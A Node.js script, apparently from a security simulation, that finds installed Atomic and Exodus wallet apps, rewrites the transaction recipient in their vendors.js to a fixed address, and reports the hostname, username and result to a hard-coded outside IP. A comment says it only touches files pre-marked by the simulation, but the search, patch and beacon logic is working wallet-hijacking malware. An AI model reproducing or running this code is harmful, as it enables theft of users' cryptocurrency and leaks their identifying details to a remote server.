// SPDX-License-Identifier: Apache-2.0
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

// Only what the simulation's label lays is ever written to.
const MARK = '/* laid for wallet-app-file-swapped */';
const TO = '0x51m0000000000000000000000000000000000000';
const home = os.homedir();
const places = {
  atomic: [
    path.join(home, 'AppData', 'Local', 'Programs', 'atomic', 'resources', 'app'),
    path.join(home, 'Applications', 'Atomic Wallet.app', 'Contents', 'Resources', 'app'),
    path.join(home, '.local', 'share', 'atomic', 'resources', 'app'),
  ],
  exodus: [
    path.join(home, 'AppData', 'Local', 'exodus', 'resources', 'app'),
    path.join(home, '.local', 'share', 'exodus', 'resources', 'app'),
  ],
};

function tell(event, detail) {
  const body = JSON.stringify({ event, detail, host: os.hostname(), user: os.userInfo().username });
  const req = http.request({
    host: '240.119.201.101', port: 80, path: '/status', method: 'POST', timeout: 5000,
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  }, (res) => res.resume());
  req.on('timeout', () => req.destroy());
  req.on('error', () => {});
  req.end(body);
}

for (const [wallet, folders] of Object.entries(places)) {
  for (const folder of folders) {
    if (!fs.existsSync(folder)) continue;
    let version = '';
    try {
      version = JSON.parse(fs.readFileSync(path.join(folder, 'package.json'), 'utf8')).version;
    } catch { /* an old one */ }
    const target = path.join(folder, 'vendors.js');
    try {
      const code = fs.readFileSync(target, 'utf8');
      if (!code.startsWith(MARK) || code.includes(TO)) continue;
      fs.writeFileSync(target + '.tmp', code.replace('{ to: to,', `{ to: '${TO}',`));
      fs.renameSync(target + '.tmp', target);
      tell('patched', { wallet, version, target });
    } catch {
      tell('failed', { wallet, version });
    }
  }
}
